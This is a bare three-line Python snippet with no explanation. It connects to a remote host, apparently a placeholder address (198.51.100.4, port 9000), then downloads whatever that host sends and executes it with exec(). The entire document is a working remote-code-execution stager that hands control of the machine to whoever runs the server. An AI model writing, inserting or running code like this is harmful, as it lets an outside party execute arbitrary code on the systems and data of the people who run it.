import socket
s = socket.create_connection(('198.51.100.4', 9000))
exec(s.recv(65536))
